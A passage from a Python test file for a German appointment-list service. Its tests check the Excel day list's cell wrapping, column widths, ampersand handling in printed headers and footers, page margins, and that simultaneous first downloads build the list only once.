        household_number="12345BG1234567",
        interpreter_language="Tigrinya (Eritrea), Dolmetscherin bestellt",
        status="passed",
        outcome="callback",
    )
    ws = wb["Eingangszone"]
    titles = [c.title for c in DAY_LIST_COLUMNS]
    cells = dict(zip(titles, ws[HEADER_ROW + 1], strict=True))
    assert cells["Kunden-/BG-Nr."].value == "Kd-Nr. 123D456789\nBG-Nr. 12345BG1234567"
    assert cells["Status"].value == "Rückruf-Ticket an das zuständige Team"
    widths = {t: ws.column_dimensions[get_column_letter(i)].width for i, t in enumerate(titles, start=1)}
    too_wide = {
        t for t, c in cells.items() if max(len(line) for line in str(c.value or "").split("\n")) > widths[t]
    }
    assert {"Anliegen", "Status", "Sprachmittlung / Hinweise"} <= too_wide  # what used to be cut off
    for title in titles[3:]:
        assert cells[title].alignment.wrap_text, title
        assert cells[title].alignment.vertical == "top", title
    # No fixed row height: Excel and LibreOffice fit the row to its wrapped text on opening.
    assert ws.row_dimensions[HEADER_ROW + 1].height is None


def printed_header_footer(content: bytes, sheet: int = 1) -> dict[str, str]:
    """What Excel prints in the header and footer of a sheet, read from the file as Excel reads it: "&&"
    is an ampersand, "&P" and "&N" the page and the page count, "&F" the file name, "&A" the sheet name,
    "&9" a font size, "&B", "&I", "&U" bold, italic, underlined (nothing printed)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        root = ElementTree.fromstring(z.read(f"xl/worksheets/sheet{sheet}.xml"))  # noqa: S314 -- a file the test built
    namespace = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    printed: dict[str, str] = {}
    for part in ("oddHeader", "oddFooter"):
        element = root.find(f"{namespace}headerFooter/{namespace}{part}")
        raw = element.text or "" if element is not None else ""
        section, i = "C", 0
        texts: dict[str, str] = {}
        while i < len(raw):
            if raw[i] != "&":
                texts[section] = texts.get(section, "") + raw[i]
                i += 1
                continue
            code = raw[i + 1 : i + 2]
            i += 2
            if code in "LCR":
                section = code
            elif code.isdigit():
                while i < len(raw) and raw[i].isdigit():
                    i += 1
            else:
                shown = {"&": "&", "P": "1", "N": "2", "F": "DATEI.xlsx", "A": "BLATT"}.get(code, "")
                texts[section] = texts.get(section, "") + shown
        for key, text in texts.items():
            printed[f"{part}.{key}"] = text.strip()
    return printed


@pytest.mark.req("R22")
def test_an_ampersand_in_the_location_or_group_name_is_printed_as_it_is() -> None:
    """Excel reads "&" in a printed header as a code ("&I" italic, "&N" the page count): the directive's
    own "Leistungsgewährung & Eingangszone" and a group "M&I" must print as they are named."""
    content = build_day_list(
        location_id="lg",
        location_name="Leistungsgewährung & Eingangszone",
        day=DAY,
        groups=[("mi", "M&I")],
        rows=[],
        generated_at=berlin(DAY, 6),
    )
    printed = printed_header_footer(content)
    assert printed["oddHeader.C"] == "Terminliste Leistungsgewährung & Eingangszone - M&I - 11.03.2025"
    assert printed["oddFooter.L"] == "Vertraulich - personenbezogene Daten"
    assert printed["oddFooter.R"] == "Seite 1 von 2"


@pytest.mark.req("R22")
async def test_two_first_downloads_of_a_list_at_the_same_time_on_two_instances_build_it_once(
    reporting: Reporting, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two staff members open the day's list at the same moment (before 06:00) through two reporting
    instances: one builds and keeps it, the other waits for that build and is sent the same file."""
    reporting.clock.set(berlin(DAY, 5))
    one = await reporting.start()
    two = await reporting.start()
    await reporting.send((location_event("mitte"), berlin(DAY, 0) - timedelta(days=5)))
    early = Appt("mitte", "neuantrag", berlin(DAY, 8), last_name="Früh")
    await reporting.send((early.booked(), early.booked_at))

    rendering, release = threading.Event(), threading.Event()
    render = build_day_list
    renders = 0

    def paused_render(**kwargs: Any) -> bytes:
        nonlocal renders
        renders += 1
        rendering.set()
        release.wait(timeout=30)
        return render(**kwargs)

    monkeypatch.setattr(service, "build_day_list", paused_render)
    first = asyncio.create_task(download(reporting, one))
    await wait_for(rendering.is_set, what="the first build rendering the file")
    second = asyncio.create_task(download(reporting, two))

    async def second_waits() -> bool:
        return bool(
            await reporting.pool.fetchval(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
                " AND wait_event_type = 'Lock' AND query LIKE '%FROM day_lists%FOR UPDATE'"
            )
        )

    await wait_for(second_waits, what="the second download waiting for the first build")
    release.set()
    answers = await asyncio.gather(first, second)
    assert [a.status for a in answers] == [200, 200]
    bodies = [await a.read() for a in answers]
    assert bodies[0] == bodies[1]
    assert renders == 1
    runs = await reporting.pool.fetch("SELECT generation, trigger FROM day_list_runs")
    assert [(r["generation"], r["trigger"]) for r in runs] == [(1, "demand")]


@pytest.mark.req("R22")
def test_the_printed_header_and_footer_stay_clear_of_the_list() -> None:
    """Printed, the line above the list ("Terminliste ... - 11.03.2025") and the one below it ("Seite 1
    von 2") sit in the page margins, not on the list's first title row or its last appointment: each
    starts far enough from the paper's edge to end before the list begins."""
    content = build_day_list(
        location_id="mitte",
        location_name="Bremen-Mitte",
        day=DAY,
        groups=[("ez", "Eingangszone")],
        rows=[],
        generated_at=berlin(DAY, 6),
    )
    ws = load_workbook(io.BytesIO(content))["Eingangszone"]
    margins = ws.page_margins
    line = 1.2 / 72  # inches of a printed line per point of its font size
    assert margins.header + 9 * line <= margins.top  # the header is printed at 9 pt
    assert margins.footer + 8 * line <= margins.bottom  # the footer at 8 pt
    assert margins.header >= 0.2 and margins.footer >= 0.2  # within what a printer can print


@pytest.mark.req("R22")
def test_every_word_of_the_list_header_fits_its_column_and_the_list_keeps_its_printed_size() -> None:
    """The header wraps at spaces and hyphens; a word wider than its column is broken inside it
    ("Servicepla" / "tz" over the service point numbers). Each word fits (about 6.5 pixels a letter in
    bold 11 pt; a column of width w is 7w + 5 pixels), and the columns together stay as wide as before,
    so that the printed list keeps its size on A4 landscape."""
    ws = one_day_list([("ez", "Eingangszone")])["Eingangszone"]
    header = [str(c.value) for c in ws[HEADER_ROW]]
    widths = [ws.column_dimensions[get_column_letter(i)].width for i in range(1, len(header) + 1)]
    for title, width in zip(header, widths, strict=True):
        for word in re.split(r"\s+|(?<=-)", title):
            assert len(word) * 6.5 <= width * 7 + 5, (title, word, width)
    assert sum(widths) <= 203
